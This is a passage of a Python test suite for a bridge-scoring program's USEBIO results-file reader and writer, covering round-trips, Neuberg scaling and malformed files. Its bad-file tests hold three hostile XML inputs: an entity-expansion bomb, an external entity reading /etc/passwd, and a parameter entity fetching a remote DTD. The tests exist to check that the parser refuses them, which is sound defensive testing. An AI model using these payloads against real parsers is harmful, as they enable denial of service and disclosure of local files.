"""USEBIO 1.2 results files: the FFB session written as USEBIO and read back with every
published figure, sessions of every shape round-tripped, a file as other programs write it,
and anything else (an XML bomb, an external entity, garbage) refused with a UsebioError.
"""

import dataclasses
import math
import string
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scorekeeper.rules.bridge import Artificial, Contract
from scorekeeper.rules.common import Seat, Side
from scorekeeper.rules.duplicate import (
    Pair,
    Ranking,
    Scoring,
    SessionRecord,
    TableResult,
    pairs_of,
)
from scorekeeper.rules.files import MAX_BYTES, FileRule
from scorekeeper.rules.pbn import PbnFile, read_pbn
from scorekeeper.rules.published import (
    Convention,
    Difference,
    Figure,
    PublishedResult,
    PublishedStanding,
    Reason,
    Verdict,
    check,
    convention_of,
)
from scorekeeper.rules.published import count as count_the_files_way
from scorekeeper.rules.usebio import (
    UsebioError,
    UsebioFile,
    differences,
    read_usebio,
    write_usebio,
)
from tests.rules.test_pbn import STORED, board_by_board, sessions

DATA = Path(__file__).resolve().parents[1] / "data" / "bridge"


@pytest.fixture(scope="module")
def ffb() -> PbnFile:
    return read_pbn(STORED)


@pytest.fixture(scope="module")
def ffb_usebio(ffb: PbnFile) -> bytes:
    """The FFB session as USEBIO, with the figures Magic Contest published."""
    return write_usebio(ffb.session, published=ffb.published)


def test_the_ffb_session_goes_through_usebio_unchanged(ffb: PbnFile, ffb_usebio: bytes) -> None:
    usebio = read_usebio(ffb_usebio)
    assert usebio.session == ffb.session
    assert differences(usebio) == []
    assert write_usebio(usebio.session, published=usebio.published) == ffb_usebio


def test_its_published_figures_are_the_pbn_files(ffb: PbnFile, ffb_usebio: bytes) -> None:
    usebio = read_usebio(ffb_usebio)
    for pbn_figures, figures in zip(ffb.published.results, usebio.published.results, strict=True):
        assert (figures.mp_ns, figures.mp_ew) == (pbn_figures.mp_ns, pbn_figures.mp_ew)
        # PBN gives a score from the side that scored it; USEBIO always North-South's.
        if pbn_figures.score_ns is not None:
            assert figures.score_ns == pbn_figures.score_ns
        elif pbn_figures.score_ew is not None:
            assert figures.score_ns == -pbn_figures.score_ew
        else:
            assert figures.score_ns is None
    assert usebio.published.standings == ffb.published.standings
    assert usebio.published.standings[0] == PublishedStanding(
        Pair(7), 1, Decimal("771.2"), Decimal("61.21"), boards=30
    )
    assert [line.tiebreak for line in usebio.published.standings[30:32]] == [2, 0]


def test_the_ffb_usebio_file_looks_as_usebio_files_do(ffb_usebio: bytes) -> None:
    text = ffb_usebio.decode("utf-8")
    assert text.startswith(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE USEBIO SYSTEM "http://www.usebio.org/files/usebio_v1_2.dtd">\n'
        '<USEBIO Version="1.2">'
    )
    assert '<EVENT EVENT_TYPE="MP_PAIRS">' in text
    assert "<DATE>06/02/2022</DATE>" in text
    assert "<BOARD_SCORING_METHOD>MATCH_POINTS</BOARD_SCORING_METHOD>" in text
    assert "<WINNER_TYPE>1</WINNER_TYPE>" in text
    assert "Séance 1</EVENT_DESCRIPTION>" in text
    assert text.count("<TRAVELLER_LINE>") == 660
    assert text.count("<PAIR>") == 44
    assert text.count("<SCORE>A6060</SCORE>") == 3
    assert text.count("<SCORE>A4060</SCORE>") == 1
    assert "<CONTRACT>3NT</CONTRACT>" in text and "<PLAYED_BY>S</PLAYED_BY>" in text
    assert text.count("<HAND>") == 120
    assert "<DIRECTION>North</DIRECTION>" in text


def test_a_figure_changed_in_the_file_is_reported(ffb_usebio: bytes) -> None:
    line = b"<NS_MATCH_POINTS>28.3</NS_MATCH_POINTS>"
    changed = ffb_usebio.replace(line, b"<NS_MATCH_POINTS>28.4</NS_MATCH_POINTS>", 1)
    changed = changed.replace(b"<PERCENTAGE>61.21</PERCENTAGE>", b"<PERCENTAGE>61.3</PERCENTAGE>")
    assert differences(read_usebio(changed)) == [
        Difference(
            Figure.MATCHPOINTS, Decimal("28.4"), Decimal("28.3"), board=1, table=3, side=Side.NS
        ),
        # Magic Contest's 61.21 (tenths added), Scorekeeper's exact 61.20: neither is 61.3.
        Difference(Figure.PERCENTAGE, Decimal("61.3"), Decimal("61.21"), pair=Pair(7)),
    ]


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sessions())
def test_any_session_is_written_and_read_back(session: SessionRecord) -> None:
    usebio = read_usebio(write_usebio(session))
    assert usebio.session == board_by_board(session)
    assert differences(usebio) == []


federation_numbers = st.text(string.digits + string.ascii_uppercase + "-", min_size=1, max_size=12)


player_names = st.sampled_from(["Anne Martin", "Bruno Petit", "Chloé Roux", "Denis O'Hara"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sessions(), st.data())
def test_each_players_federation_number_is_written_and_read_back(
    session: SessionRecord, data: st.DataObject
) -> None:
    seated = sorted({pair for r in session.results for pair in pairs_of(r, session.ranking)})
    chosen = data.draw(st.lists(st.sampled_from(seated), min_size=1, unique=True))
    names = dict(session.names)
    numbers = {}
    for pair in chosen:
        names[pair] = f"{data.draw(player_names)} - {data.draw(player_names)}"
        numbers[pair] = (data.draw(st.just("") | federation_numbers), data.draw(federation_numbers))
    session = dataclasses.replace(session, names=names, numbers=numbers)
    written = write_usebio(session)
    given = sum(bool(number) for both in numbers.values() for number in both)
    assert written.count(b"<NATIONAL_ID_NUMBER>") == given
    assert read_usebio(written).session == board_by_board(session)


def test_every_data_files_players_keep_their_federation_numbers() -> None:
    """Counted from each file with ElementTree alone: each pair of two PLAYERs, their names
    and numbers as written."""
    files = sorted(DATA.glob("*.xml"))
    assert len(files) >= 5
    with_numbers = 0
    for path in files:
        data = path.read_bytes()
        written = Counter()
        for pair in ElementTree.fromstring(data).iter("PAIR"):
            players = pair.findall("PLAYER")
            numbers = tuple((p.findtext("NATIONAL_ID_NUMBER") or "").strip() for p in players)
            if len(players) == 2 and any(numbers):
                written[numbers] += 1
        session = read_usebio(data).session
        assert Counter(session.numbers.values()) == written, path.name
        again = read_usebio(write_usebio(session)).session
        assert again.numbers == session.numbers, path.name
        with_numbers += bool(written)
    assert with_numbers >= 4


# --- A file as another program writes it -------------------------------------------------------

OTHER = """\
<?xml version="1.0" encoding="iso-8859-1"?>
<!DOCTYPE USEBIO SYSTEM "http://www.usebio.org/files/usebio_v1_2.dtd">
<USEBIO Version="1.2">
  <CLUB><CLUB_NAME>Little Snoring BC</CLUB_NAME></CLUB>
  <EVENT EVENT_TYPE="MP_PAIRS">
    <PROGRAM_NAME>Scorer</PROGRAM_NAME>
    <EVENT_DESCRIPTION>Tuesday Mitchell \xe9t\xe9</EVENT_DESCRIPTION>
    <DATE>3/9/2024</DATE>
    <WINNER_TYPE>2</WINNER_TYPE>
    <SESSION SESSION_ID="1"><SECTION SECTION_ID="A">
    <PARTICIPANTS>
      <PAIR><PAIR_NUMBER>1 NS</PAIR_NUMBER><DIRECTION>NS</DIRECTION>
        <PLAYER><PLAYER_NAME>Ann Smith</PLAYER_NAME><NATIONAL_ID_NUMBER>1</NATIONAL_ID_NUMBER>
        </PLAYER><PLAYER><PLAYER_NAME>Bob O'Neill</PLAYER_NAME></PLAYER>
        <PLACE>1=</PLACE><TOTAL_SCORE>1</TOTAL_SCORE><PERCENTAGE>50.00</PERCENTAGE>
        <MASTER_POINTS><MASTER_POINTS_AWARDED>6</MASTER_POINTS_AWARDED></MASTER_POINTS>
      </PAIR>
      <PAIR><PAIR_NUMBER>2 NS</PAIR_NUMBER><DIRECTION>NS</DIRECTION>
        <PLACE>1=</PLACE><TOTAL_SCORE>1</TOTAL_SCORE><PERCENTAGE>50.00</PERCENTAGE></PAIR>
      <PAIR><PAIR_NUMBER>1 EW</PAIR_NUMBER><DIRECTION>EW</DIRECTION>
        <PLACE>1</PLACE><TOTAL_SCORE>1.2</TOTAL_SCORE><PERCENTAGE>60.00</PERCENTAGE></PAIR>
      <PAIR><PAIR_NUMBER>2 EW</PAIR_NUMBER><DIRECTION>EW</DIRECTION>
        <PLACE>2</PLACE><TOTAL_SCORE>0.8</TOTAL_SCORE><PERCENTAGE>40.00</PERCENTAGE></PAIR>
    </PARTICIPANTS>
    <BOARD>
      <BOARD_NUMBER>5</BOARD_NUMBER>
      <TRAVELLER_LINE>
        <NS_PAIR_NUMBER>1 NS</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2 EW</EW_PAIR_NUMBER>
        <CONTRACT>3NTx</CONTRACT><PLAYED_BY>W</PLAYED_BY><LEAD>H4</LEAD>
        <TRICKS>8</TRICKS><SCORE>100</SCORE>
        <NS_MATCH_POINTS>2</NS_MATCH_POINTS><EW_MATCH_POINTS>0</EW_MATCH_POINTS>
      </TRAVELLER_LINE>
      <TRAVELLER_LINE>
        <NS_PAIR_NUMBER>2 NS</NS_PAIR_NUMBER><EW_PAIR_NUMBER>1 EW</EW_PAIR_NUMBER>
        <SCORE>A4060</SCORE>
        <NS_MATCH_POINTS>0.8</NS_MATCH_POINTS><EW_MATCH_POINTS>1.2</EW_MATCH_POINTS>
      </TRAVELLER_LINE>
      <TRAVELLER_LINE>
        <NS_PAIR_NUMBER>3 NS</NS_PAIR_NUMBER><EW_PAIR_NUMBER>3 EW</EW_PAIR_NUMBER>
        <CONTRACT>PASS</CONTRACT><SCORE>0</SCORE>
      </TRAVELLER_LINE>
    </BOARD>
    </SECTION></SESSION>
  </EVENT>
  <HANDSET><BOARD><BOARD_NUMBER>5</BOARD_NUMBER>
    <HAND><DIRECTION>North</DIRECTION><CLUBS>AKQJT98765432</CLUBS><DIAMONDS/><HEARTS/>
      <SPADES/></HAND>
  </BOARD></HANDSET>
</USEBIO>
""".encode("latin-1")


def test_a_file_from_another_program() -> None:
    usebio = read_usebio(OTHER)
    session = usebio.session
    assert session.ranking is Ranking.BY_DIRECTION
    assert session.scoring is Scoring.MATCHPOINTS
    assert (session.event, session.date) == ("Tuesday Mitchell été", date(2024, 9, 3))
    assert session.club == "Little Snoring BC"
    first, artificial, passed = session.results
    assert (first.board, first.table, first.round, first.ns, first.ew) == (5, 1, 1, 1, 2)
    assert (first.contract, first.declarer, first.tricks, first.lead) == (
        Contract(3, "NT", 1),
        Seat.WEST,
        8,
        "H4",
    )
    assert (artificial.table, artificial.artificial_ns, artificial.artificial_ew) == (
        2,
        Artificial.AVERAGE_MINUS,
        Artificial.AVERAGE_PLUS,
    )
    assert passed.passed_out
    assert session.names == {Pair(1, Side.NS): "Ann Smith - Bob O'Neill"}
    assert session.deals == {5: "N:...AKQJT98765432 - - -"}
    assert usebio.published.results[0] == PublishedResult(
        score_ns=100, mp_ns=Decimal(2), mp_ew=Decimal(0)
    )
    assert usebio.published.standings[0].rank == 1
    # Two real results and an artificial one: the traveller's figures are out of the top of
    # the two real results, not scaled to three; its totals do not follow from them.
    checked = check(session, usebio.published)
    assert checked.convention == Convention(tops={5: 2})
    assert checked.lines[0, Side.NS].verdict is Verdict.EXPLAINED
    assert checked.lines[0, Side.NS].notes[0].reason is Reason.NOT_SCALED
    assert {d.figure for d in checked.differences} == {
        Figure.TOTAL,
        Figure.PERCENTAGE,
        Figure.RANK,
    }


def test_a_mitchell_is_written_as_club_programs_write_it() -> None:
    session = dataclasses.replace(read_usebio(OTHER).session, scoring=Scoring.BUTLER)
    data = write_usebio(session)
    text = data.decode("utf-8")
    assert '<!DOCTYPE USEBIO SYSTEM "http://www.usebio.org/files/usebio_v1_2.dtd">' in text
    assert "<CLUB>\n    <CLUB_NAME>Little Snoring BC</CLUB_NAME>\n  </CLUB>" in text
    assert '<EVENT EVENT_TYPE="BUTLER_PAIRS">' in text
    assert "<PAIR_NUMBER>1 NS</PAIR_NUMBER>" in text and "<PAIR_NUMBER>2 EW</PAIR_NUMBER>" in text
    assert "<NS_PAIR_NUMBER>1 NS</NS_PAIR_NUMBER>" in text
    assert "<EW_PAIR_NUMBER>2 EW</EW_PAIR_NUMBER>" in text
    again = read_usebio(data).session
    assert again.club == "Little Snoring BC"
    assert again.ranking is Ranking.BY_DIRECTION
    assert again.results == tuple(sorted(session.results, key=lambda r: r.board))


def test_artificial_scores_written_other_ways() -> None:
    for written, expected in (
        ("<SCORE>A60</SCORE>", (Artificial.AVERAGE_PLUS, Artificial.AVERAGE_MINUS)),
        ("<SCORE>A+</SCORE>", (Artificial.AVERAGE_PLUS, Artificial.AVERAGE_MINUS)),
        ("<SCORE>A5050</SCORE>", (Artificial.AVERAGE, Artificial.AVERAGE)),
        (
            "<NS_SCORE>A60</NS_SCORE><EW_SCORE>A60</EW_SCORE>",
            (Artificial.AVERAGE_PLUS, Artificial.AVERAGE_PLUS),
        ),
    ):
        data = OTHER.replace(b"<SCORE>A4060</SCORE>", written.encode())
        result = read_usebio(data).session.results[1]
        assert (result.artificial_ns, result.artificial_ew) == expected, written


# --- Boards played fewer times, scored as the program that wrote the file scored them ----------

# A three-table Mitchell, three boards a round, as its travellers read: board, table, round,
# North-South pair, East-West pair, contract, declarer, tricks, North-South's score.
MITCHELL = """\
1 1 1 1 1 4S N 11 450
2 1 1 1 1 4S N 9 -100
3 1 1 1 1 4S N 9 -50
4 2 1 2 2 3NT S 10 630
5 2 1 2 2 3NT S 10 630
6 2 1 2 2 4S N 9 -50
7 3 1 3 3 4S N 10 620
8 3 1 3 3 4S N 9 -50
9 3 1 3 3 2H E 8 -110
4 1 2 1 3 2H E 8 -110
5 1 2 1 3 3NT S 9 600
6 1 2 1 3 3NT S 9 400
7 2 2 2 1 4H W 10 -620
8 2 2 2 1 3NT S 9 400
9 2 2 2 1 2H E 8 -110
1 3 2 3 2 4H W 10 -420
2 3 2 3 2 4S N 11 650
3 3 2 3 2 2H E 8 -110
7 1 3 1 2 3NT S 9 600
8 1 3 1 2 4H W 10 -420
9 1 3 1 2 4S N 11 450
1 2 3 2 3 4S N 10 420
2 2 3 2 3 4S N 10 620
3 2 3 2 3 2H E 8 -110
4 3 3 3 1 4S N 9 -100
5 3 3 3 1 2H E 8 -110
6 3 3 3 1 4H W 10 -620
"""
LINES = [line.split() for line in MITCHELL.splitlines()]
NOT_PLAYED = {
    "table 3 missed round 2": {(2, 3)},
    "two tables missed a round": {(3, 1), (1, 2)},
    "table 1 missed round 1": {(1, 1)},
}
"""The (round, table) of the boards not played, in three files; what scoring each board on
its own results alone shows instead: another order in the first two, percentages off by more
than 2 in the third."""


@dataclass(frozen=True)
class Counted:
    """What a club program publishes for a session, counted here: each line's matchpoints,
    and each pair's total, top and place (by percentage, "=" when tied)."""

    lines: list[list[str]]
    points: list[tuple[Fraction, Fraction]]
    totals: dict[tuple[str, int], Fraction]
    tops: dict[tuple[str, int], int]

    def percentage(self, pair: tuple[str, int]) -> Fraction:
        return self.totals[pair] * 100 / self.tops[pair]

    def order(self, direction: str) -> list[tuple[str, int]]:
        pairs = [pair for pair in self.totals if pair[0] == direction]
        return sorted(pairs, key=lambda pair: (-self.percentage(pair), pair[1]))

    def place(self, pair: tuple[str, int]) -> str:
        others = [other for other in self.totals if other[0] == pair[0] and other != pair]
        ahead = sum(self.percentage(other) > self.percentage(pair) for other in others)
        tied = any(self.percentage(other) == self.percentage(pair) for other in others)
        return f"{ahead + 1}{'=' if tied else ''}"


def count(missed: set[tuple[int, int]], *, neuberg: bool) -> Counted:
    """The session without the rounds the tables missed, matchpointed: 2 per lower score in
    the same direction and 1 per equal one; with ``neuberg``, a board with fewer results than
    the most any board has scaled by (M + 1) × N / n − 1 to that top."""
    lines = [line for line in LINES if (int(line[2]), int(line[1])) not in missed]
    boards: dict[str, list[int]] = defaultdict(list)
    for index, line in enumerate(lines):
        boards[line[0]].append(index)
    most = max(len(indexes) for indexes in boards.values())
    points: dict[int, tuple[Fraction, Fraction]] = {}
    totals: dict[tuple[str, int], Fraction] = defaultdict(Fraction)
    tops: dict[tuple[str, int], int] = defaultdict(int)
    for indexes in boards.values():
        obtained = len(indexes)
        wanted = most if neuberg else obtained
        scores = [int(lines[index][8]) for index in indexes]
        for index, score in zip(indexes, scores, strict=True):
            beaten = sum(other < score for other in scores)
            equal = sum(other == score for other in scores) - 1
            ns = Fraction(2 * beaten + equal + 1) * wanted / obtained - 1
            ew = 2 * (wanted - 1) - ns
            points[index] = (ns, ew)
            pair_ns, pair_ew = ("NS", int(lines[index][3])), ("EW", int(lines[index][4]))
            for pair, figure in ((pair_ns, ns), (pair_ew, ew)):
                totals[pair] += figure
                tops[pair] += 2 * (wanted - 1)
    return Counted(lines, [points[index] for index in range(len(lines))], totals, tops)


def two_places(value: Fraction) -> str:
    return f"{math.floor(value * 100 + Fraction(1, 2)) / 100:.2f}"


def club_program_file(counted: Counted, *, per_board: bool = True) -> bytes:
    """The session as a club program's USEBIO file: figures to two decimals."""
    pairs = "".join(
        f"<PAIR><PAIR_NUMBER>{number}</PAIR_NUMBER><DIRECTION>{direction}</DIRECTION>"
        f"<PLACE>{counted.place((direction, number))}</PLACE>"
        f"<TOTAL_SCORE>{two_places(counted.totals[direction, number])}</TOTAL_SCORE>"
        f"<PERCENTAGE>{two_places(counted.percentage((direction, number)))}</PERCENTAGE></PAIR>"
        for side in ("NS", "EW")
        for direction, number in counted.order(side)
    )
    boards: dict[str, list[str]] = defaultdict(list)
    for line, (ns, ew) in zip(counted.lines, counted.points, strict=True):
        board, table, round_, pair_ns, pair_ew, contract, declarer, tricks, score = line
        figures = (
            f"<NS_MATCH_POINTS>{two_places(ns)}</NS_MATCH_POINTS>"
            f"<EW_MATCH_POINTS>{two_places(ew)}</EW_MATCH_POINTS>"
            if per_board
            else ""
        )
        boards[board].append(
            f"<TRAVELLER_LINE><ROUND_NUMBER>{round_}</ROUND_NUMBER>"
            f"<TABLE_NUMBER>{table}</TABLE_NUMBER><NS_PAIR_NUMBER>{pair_ns}</NS_PAIR_NUMBER>"
            f"<EW_PAIR_NUMBER>{pair_ew}</EW_PAIR_NUMBER><CONTRACT>{contract}</CONTRACT>"
            f"<PLAYED_BY>{declarer}</PLAYED_BY><TRICKS>{tricks}</TRICKS>"
            f"<SCORE>{score}</SCORE>{figures}</TRAVELLER_LINE>"
        )
    travellers = "".join(
        f"<BOARD><BOARD_NUMBER>{board}</BOARD_NUMBER>{''.join(rows)}</BOARD>"
        for board, rows in sorted(boards.items(), key=lambda item: int(item[0]))
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><USEBIO Version="1.2">'
        '<EVENT EVENT_TYPE="MP_PAIRS"><EVENT_DESCRIPTION>Tuesday Mitchell</EVENT_DESCRIPTION>'
        f"<WINNER_TYPE>2</WINNER_TYPE><PARTICIPANTS>{pairs}</PARTICIPANTS>{travellers}"
        "</EVENT></USEBIO>"
    ).encode()


def engine_order(usebio: UsebioFile, direction: Side) -> list[tuple[str, int]]:
    """The pairs in the order the session counted the file's way ranks them."""
    convention = convention_of(usebio.session, usebio.published)
    counted = count_the_files_way(usebio.session, usebio.published, convention)
    ranking = dict(counted.rankings)[direction]
    return [(direction.value, line.pair.number) for line in ranking]


@pytest.mark.parametrize(
    ("missed", "reordered"),
    list(zip(NOT_PLAYED.values(), (True, True, False), strict=True)),
    ids=NOT_PLAYED.keys(),
)
def test_a_board_played_fewer_times_is_neuberg_scaled_as_the_file_was(
    missed: set[tuple[int, int]], reordered: bool
) -> None:
    neuberg = count(missed, neuberg=True)
    usebio = read_usebio(club_program_file(neuberg))
    assert usebio.session.expected is None  # the default: the most results any board has
    assert differences(usebio) == []
    for direction in Side:
        assert engine_order(usebio, direction) == neuberg.order(direction.value)
    unscaled = count(missed, neuberg=False)
    orders = [(neuberg.order(side), unscaled.order(side)) for side in ("NS", "EW")]
    assert any(scaled != alone for scaled, alone in orders) is reordered
    moved = [abs(neuberg.percentage(p) - unscaled.percentage(p)) for p in neuberg.totals]
    assert reordered or max(moved) > 2


def test_a_file_that_publishes_no_board_figures_is_scored_with_neuberg() -> None:
    neuberg = count(NOT_PLAYED["table 3 missed round 2"], neuberg=True)
    usebio = read_usebio(club_program_file(neuberg, per_board=False))
    assert usebio.session.expected is None
    assert differences(usebio) == []
    assert engine_order(usebio, Side.NS) == neuberg.order("NS")


def test_a_file_whose_figures_show_it_did_not_scale_is_not_scaled() -> None:
    unscaled = count(NOT_PLAYED["table 3 missed round 2"], neuberg=False)
    usebio = read_usebio(club_program_file(unscaled))
    # Round 2 at table 3: boards 1 to 3, played twice; their figures are out of a top of 2.
    assert convention_of(usebio.session, usebio.published) == Convention(tops={1: 2, 2: 2, 3: 2})
    assert differences(usebio) == []
    for direction in Side:
        assert engine_order(usebio, direction) == unscaled.order(direction.value)
    # Written again, the session keeps the figures the file published (and says how many
    # boards each pair played, which the file did not).
    again = read_usebio(write_usebio(usebio.session, published=usebio.published))
    assert again.session == usebio.session
    assert again.published.results == usebio.published.results
    assert [dataclasses.replace(line, boards=None) for line in again.published.standings] == list(
        usebio.published.standings
    )


# --- Bad files: a UsebioError, never anything else -----------------------------------------------


def other(old: bytes, new: bytes) -> bytes:
    assert old in OTHER, old
    return OTHER.replace(old, new, 1)


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<USEBIO><EVENT><EVENT_DESCRIPTION>&lol4;</EVENT_DESCRIPTION></EVENT></USEBIO>
"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE USEBIO [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<USEBIO><EVENT><EVENT_DESCRIPTION>&secret;</EVENT_DESCRIPTION></EVENT></USEBIO>
"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE USEBIO [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<USEBIO/>
"""


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (b"", FileRule.XML),
        (b"not xml", FileRule.XML),
        (b"<USEBIO><EVENT>", FileRule.XML),
        (BOMB, FileRule.XML_FORBIDDEN),
        (EXTERNAL, FileRule.XML_FORBIDDEN),
        (PARAMETER, FileRule.XML_FORBIDDEN),
        (b"<PBN/>", FileRule.ROOT),
        (other(b"iso-8859-1", b"iso-8x59-1"), FileRule.ENCODING),
        (other(b"iso-8859-1", b"utf-16"), FileRule.XML),
        (b"<USEBIO/>", FileRule.MISSING),
        (other(b'EVENT_TYPE="MP_PAIRS"', b'EVENT_TYPE="TEAMS"'), FileRule.EVENT_TYPE),
        (
            other(
                b"<WINNER_TYPE>",
                b"<BOARD_SCORING_METHOD>AGGREGATE</BOARD_SCORING_METHOD><WINNER_TYPE>",
            ),
            FileRule.SCORING,
        ),
        (other(b"<WINNER_TYPE>2", b"<WINNER_TYPE>3"), FileRule.NUMBER),
        (other(b"3/9/2024", b"31/9/2024"), FileRule.DATE),
        (
            other(b"<BOARD_NUMBER>5</BOARD_NUMBER>", b"<BOARD_NUMBER>0</BOARD_NUMBER>"),
            FileRule.NUMBER,
        ),
        (other(b"<NS_PAIR_NUMBER>1 NS", b"<NS_PAIR_NUMBER>one"), FileRule.PAIR_NUMBER),
        (other(b"<EW_PAIR_NUMBER>2 EW</EW_PAIR_NUMBER>", b""), FileRule.MISSING),
        (other(b"3NTx", b"3NTz"), FileRule.CONTRACT),
        (other(b"<PLAYED_BY>W", b"<PLAYED_BY>Q"), FileRule.DECLARER),
        (other(b"<TRICKS>8", b"<TRICKS>14"), FileRule.NUMBER),
        (other(b"<SCORE>100", b"<SCORE>1OO"), FileRule.SCORE),
        (other(b"<SCORE>A4060", b"<SCORE>A7030"), FileRule.SCORE),
        (other(b"<CONTRACT>PASS</CONTRACT><SCORE>0", b"<SCORE>50"), FileRule.NOT_PLAYED),
        (other(b"<NS_MATCH_POINTS>2", b"<NS_MATCH_POINTS>two"), FileRule.FIGURE),
        (other(b"<DIRECTION>NS</DIRECTION>", b"<DIRECTION>XY</DIRECTION>"), FileRule.DIRECTION),
        (other(b"<PLACE>1=", b"<PLACE>first"), FileRule.NUMBER),
        (other(b"<NS_PAIR_NUMBER>3 NS", b"<NS_PAIR_NUMBER>1 NS"), FileRule.PAIR_TWICE),
        (other(b"<CLUBS>AKQJT98765432", b"<CLUBS>AKQJT9876543Z"), FileRule.DEAL),
        (other(b"<SCORE>100</SCORE>", b"<SCORE>A+</SCORE>"), FileRule.RESULT),
    ],
)
def test_a_bad_file_says_which_rule(data: bytes, rule: FileRule) -> None:
    with pytest.raises(UsebioError) as raised:
        read_usebio(data)
    assert raised.value.rule is rule
    assert str(raised.value)


def test_the_place_of_a_fault_is_given() -> None:
    with pytest.raises(UsebioError) as raised:
        read_usebio(other(b"<TRICKS>8", b"<TRICKS>14"))
    assert raised.value.values["where"] == "Board 5, traveller line 1"
    assert str(raised.value) == (
        "Board 5, traveller line 1: TRICKS must be a whole number from 0 to 13, not '14'."
    )
    with pytest.raises(UsebioError) as raised:
        read_usebio(b"<USEBIO>\n<EVENT>\n</USEBI>")
    assert (raised.value.values["line"], raised.value.values["column"]) == (3, 2)


def test_a_file_too_large_is_refused_before_it_is_parsed() -> None:
    with pytest.raises(UsebioError) as raised:
        read_usebio(b" " * (MAX_BYTES + 1))
    assert raised.value.rule is FileRule.TOO_LARGE


def check_reads_or_refuses(read: Callable[[], UsebioFile]) -> None:
    """Reading gives a UsebioError, or a file whose session scores and compares."""
    try:
        usebio = read()
    except UsebioError as error:
        assert str(error)
        return
    differences(usebio)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_random_bytes_are_refused(data: bytes) -> None:
    check_reads_or_refuses(lambda: read_usebio(data))


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(OTHER) - 1), st.sampled_from(list(b'<>/"&;=! x0-9A')), st.booleans())
def test_the_other_file_with_a_byte_changed_or_cut_is_refused_or_read(
    at: int, byte: int, cut: bool
) -> None:
    data = OTHER[:at] if cut else OTHER[:at] + bytes([byte]) + OTHER[at + 1 :]
    check_reads_or_refuses(lambda: read_usebio(data))


ELEMENTS = [
    "NS_PAIR_NUMBER", "EW_PAIR_NUMBER", "CONTRACT", "PLAYED_BY", "TRICKS", "SCORE", "LEAD",
    "NS_MATCH_POINTS", "TABLE_NUMBER", "ROUND_NUMBER", "BOARD_NUMBER", "PAIR_NUMBER", "PLACE",
    "TOTAL_SCORE", "PERCENTAGE", "TIEBREAK", "DIRECTION", "WINNER_TYPE", "DATE", "SPADES",
]  # fmt: skip
values = st.sampled_from(
    ["", "0", "-1", "14", "1000", "A60", "A6040", "A9999", "PASS", "8S", "3NTxx", "N", "Q",
     "28.3", "nan", "1e9", "1=", "NS", "EW", "31/02/2024", "XYZ", "é", "  7 NS  "]
)  # fmt: skip


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sessions(), st.sampled_from(ELEMENTS), values, st.data())
def test_a_written_file_with_a_value_changed_is_refused_or_read(
    session: SessionRecord, element: str, value: str, data: st.DataObject
) -> None:
    text = write_usebio(session).decode("utf-8")
    opening = f"<{element}>"
    count = text.count(opening)
    if count:
        which = data.draw(st.integers(0, count - 1))
        start = -1
        for _ in range(which + 1):
            start = text.index(opening, start + 1)
        end = text.index(f"</{element}>", start)
        text = text[: start + len(opening)] + value + text[end:]
    check_reads_or_refuses(lambda: read_usebio(text.encode("utf-8")))


def test_pairs_that_sat_the_wrong_way_are_written_and_read_back() -> None:
    made = TableResult(1, 1, 1, 1, 1, Contract(3, "NT"), Seat.NORTH, 9)
    wrong_way = TableResult(1, 2, 1, 2, 2, Contract(3, "NT"), Seat.NORTH, 8, switched=True)
    session = SessionRecord((made, wrong_way), ranking=Ranking.BY_DIRECTION)
    data = write_usebio(session)
    text = data.decode("utf-8")
    assert "<NS_PAIR_NUMBER>2 EW</NS_PAIR_NUMBER>" in text
    assert "<EW_PAIR_NUMBER>2 NS</EW_PAIR_NUMBER>" in text
    again = read_usebio(data)
    assert again.session.results == session.results
    assert differences(again) == []


# --- IMPs, however a file says them ---------------------------------------------------------------


def imp_file(
    method: str, *, pairwise: str = "", in_matchpoints: bool = False, won: int = 10
) -> bytes:
    """A two-table board scored in IMPs: +420 against −50, ``won`` IMPs each way (10 in
    cross-IMPs, 6 against Butler's datum of 190); the board scoring method as given, the
    IMPs in NS_IMPS or, as BBO writes them, NS_MATCH_POINTS."""
    element = "MATCH_POINTS" if in_matchpoints else "IMPS"
    lines = "".join(
        f"<TRAVELLER_LINE><NS_PAIR_NUMBER>{ns}</NS_PAIR_NUMBER><EW_PAIR_NUMBER>{ew}"
        f"</EW_PAIR_NUMBER><CONTRACT>4S</CONTRACT><PLAYED_BY>N</PLAYED_BY><TRICKS>{tricks}"
        f"</TRICKS><SCORE>{score}</SCORE><NS_{element}>{imps}</NS_{element}>"
        f"<EW_{element}>{-imps}</EW_{element}></TRAVELLER_LINE>"
        for ns, ew, tricks, score, imps in ((1, 2, 10, 420, won), (3, 4, 9, -50, -won))
    )
    said = f"<PAIRWISE_SCORING_METHOD>{pairwise}</PAIRWISE_SCORING_METHOD>" if pairwise else ""
    return (
        '<?xml version="1.0"?><USEBIO Version="1.2"><EVENT EVENT_TYPE="PAIRS">'
        f"<BOARD_SCORING_METHOD>{method}</BOARD_SCORING_METHOD>{said}"
        f"<BOARD><BOARD_NUMBER>1</BOARD_NUMBER>{lines}</BOARD></EVENT></USEBIO>"
    ).encode()


@pytest.mark.parametrize(
